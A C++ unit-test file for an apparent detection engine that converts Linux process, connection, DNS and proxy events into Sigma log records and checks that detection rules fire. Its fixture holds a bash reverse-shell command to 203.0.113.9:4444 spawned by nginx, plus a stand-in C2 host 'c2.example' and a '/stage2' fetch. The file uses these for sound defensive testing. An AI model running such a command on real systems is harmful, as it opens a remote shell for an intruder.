// SPDX-License-Identifier: Apache-2.0
#include "detect/evidence/native_record.h"

#include <gtest/gtest.h>

#include "detect/sigma/rules_for_tests.h"

namespace picket::detect::evidence {
namespace {

event::ProcessFacts shell() {
  event::ProcessFacts process;
  process.key = {4122, 99};
  process.started = WallTime{1'767'323'045'000'000'000};
  process.executable = "/usr/bin/bash";
  process.arguments = {"bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"};
  process.user = "www-data";
  process.sha256 = "ab";
  process.parents.push_back({{900, 5}, {}, "nginx", "/usr/sbin/nginx"});
  return process;
}

std::string_view value(const event::LogRecord& record, std::string_view name) {
  const event::LogField* field = record.find(name);
  return field ? field->value : "(absent)";
}

sigma::RuleSet rule(const std::string& category, const std::string& selection) {
  return sigma::rules_from("title: t\nlogsource: {product: linux, category: " + category +
                           "}\ndetection:\n  s:\n" + selection + "  condition: s\n");
}

bool fires(sigma::RuleSet set, const event::LogRecord& record) {
  EXPECT_TRUE(set.report.errors.empty()) << set.report.text();
  auto program = sigma::Program::compile(std::move(set));
  EXPECT_TRUE(program);
  auto matcher = sigma::Matcher::create(**program);
  EXPECT_TRUE(matcher);
  return !matcher->evaluate(record).empty();
}

TEST(NativeRecord, RulesForLinuxProcessesFire) {
  event::LogRecord record;
  process_record(shell(), nullptr, "web1", record);
  EXPECT_TRUE(fires(rule("process_creation",
                         "    Image|endswith: '/bash'\n    CommandLine|contains: '/dev/tcp/'\n"
                         "    ParentImage|endswith: '/nginx'\n    User: www-data\n"),
                    record));
  EXPECT_FALSE(fires(rule("network_connection", "    Image|endswith: '/bash'\n"), record))
      << "it is of another category";
  EXPECT_FALSE(fires(rule("process_creation", "    ParentCommandLine|contains: 'nginx'\n"), record))
      << "nobody knows the parent's command line";
  EXPECT_EQ(record.computer, "web1");
  EXPECT_EQ(value(record, "Hashes"), "SHA256=ab");
}

TEST(NativeRecord, AParentAtHandIsDescribedInFull) {
  event::ProcessFacts parent;
  parent.key = {900, 5};
  parent.executable = "/usr/sbin/nginx";
  parent.arguments = {"nginx:", "worker"};
  event::LogRecord record;
  process_record(shell(), &parent, "web1", record);
  EXPECT_EQ(value(record, "ParentCommandLine"), "nginx: worker");
  EXPECT_EQ(value(record, "ParentProcessGuid"), "900@5");
  EXPECT_EQ(value(record, "ParentUser"), "(absent)");
}

event::FlowFacts flow(event::Role role) {
  event::FlowFacts made;
  made.role = role;
  made.local = {*IpAddress::parse("10.0.0.5"), 41822};
  made.remote = {*IpAddress::parse("203.0.113.9"), 4444};
  made.remote_name = "c2.example";
  return made;
}

TEST(NativeRecord, RulesForLinuxConnectionsFire) {
  event::LogRecord record;
  ASSERT_TRUE(connection_record(flow(event::Role::kClient), shell(), "web1", record));
  EXPECT_TRUE(fires(rule("network_connection",
                         "    Initiated: 'true'\n    DestinationIp|cidr: 203.0.113.0/24\n"
                         "    DestinationPort: 4444\n    DestinationHostname|endswith: .example\n"
                         "    Image|endswith: '/bash'\n"),
                    record));
}

TEST(NativeRecord, WhoCalledIsTheSource) {
  event::LogRecord record;
  ASSERT_TRUE(connection_record(flow(event::Role::kServer), shell(), "web1", record));
  EXPECT_EQ(value(record, "SourceIp"), "203.0.113.9");
  EXPECT_EQ(value(record, "DestinationPort"), "41822");
  EXPECT_EQ(value(record, "Initiated"), "false");
  EXPECT_EQ(value(record, "SourceHostname"), "c2.example");
  ASSERT_TRUE(connection_record(flow(event::Role::kUnknown), shell(), "web1", record));
  EXPECT_EQ(value(record, "Initiated"), "(absent)");
}

TEST(NativeRecord, WithoutAnOwnerTheFlowsWordStandsAndListenersAreNone) {
  event::FlowFacts made = flow(event::Role::kClient);
  made.process = "curl";
  event::LogRecord record;
  ASSERT_TRUE(connection_record(made, {}, "web1", record));
  EXPECT_EQ(value(record, "Image"), "curl");
  EXPECT_EQ(value(record, "ProcessGuid"), "(absent)");
  made.remote = {};
  EXPECT_FALSE(connection_record(made, {}, "web1", record));
}

event::Activity seen(event::What&& what) {
  event::Activity activity;
  activity.time = WallTime{1'767'323'045'000'000'000};
  activity.host = "web1";
  activity.what = std::move(what);
  return activity;
}

TEST(NativeRecord, RulesForLookupsFireUnderEitherCategory) {
  event::DnsLookup lookup;
  lookup.name = "c2.example";
  lookup.type = "TXT";
  lookup.answers = {"cmd=1", "cmd=2"};
  event::LogRecord record;
  ASSERT_TRUE(wire_record(seen(std::move(lookup)), shell(), record));
  EXPECT_TRUE(fires(rule("dns_query",
                         "    QueryName|endswith: .example\n    Image|endswith: /bash\n"
                         "    QueryResults|contains: cmd=2\n"),
                    record));
  EXPECT_TRUE(fires(sigma::rules_from("title: t\nlogsource: {category: dns}\ndetection:\n"
                                      "  s: {query: c2.example, record_type: TXT, answer: cmd=2}\n"
                                      "  condition: s\n"),
                    record));
  EXPECT_FALSE(fires(rule("process_creation", "    Image|endswith: /bash\n"), record));
}

TEST(NativeRecord, RulesForProxiesAndFirewallsFire) {
  event::HttpExchange request;
  request.method = "GET";
  request.host = "c2.example";
  request.uri = "/stage2";
  request.remote = {*IpAddress::parse("203.0.113.9"), 80};
  event::LogRecord record;
  ASSERT_TRUE(wire_record(seen(std::move(request)), {}, record));
  EXPECT_TRUE(fires(sigma::rules_from("title: t\nlogsource: {category: proxy}\ndetection:\n"
                                      "  s: {c-uri: 'http://c2.example/stage2', cs-method: GET}\n"
                                      "  condition: s\n"),
                    record));
  ASSERT_TRUE(connection_record(flow(event::Role::kClient), shell(), "web1", record));
  EXPECT_TRUE(fires(sigma::rules_from("title: t\nlogsource: {category: firewall}\ndetection:\n"
                                      "  s: {dst_ip: 203.0.113.9, dst_port: 4444}\n"
                                      "  condition: s\n"),
                    record));
  EXPECT_FALSE(wire_record(seen(event::ProcessEnded{}), shell(), record));
}

TEST(NativeRecord, OriginsAreThoseOfTheRecords) {
  event::LogRecord record;
  process_record(shell(), nullptr, "web1", record);
  EXPECT_EQ(native_origins().front().category, record.origin.category);
  EXPECT_EQ(native_origins().size(), 4u);
}

}  // namespace
}  // namespace picket::detect::evidence
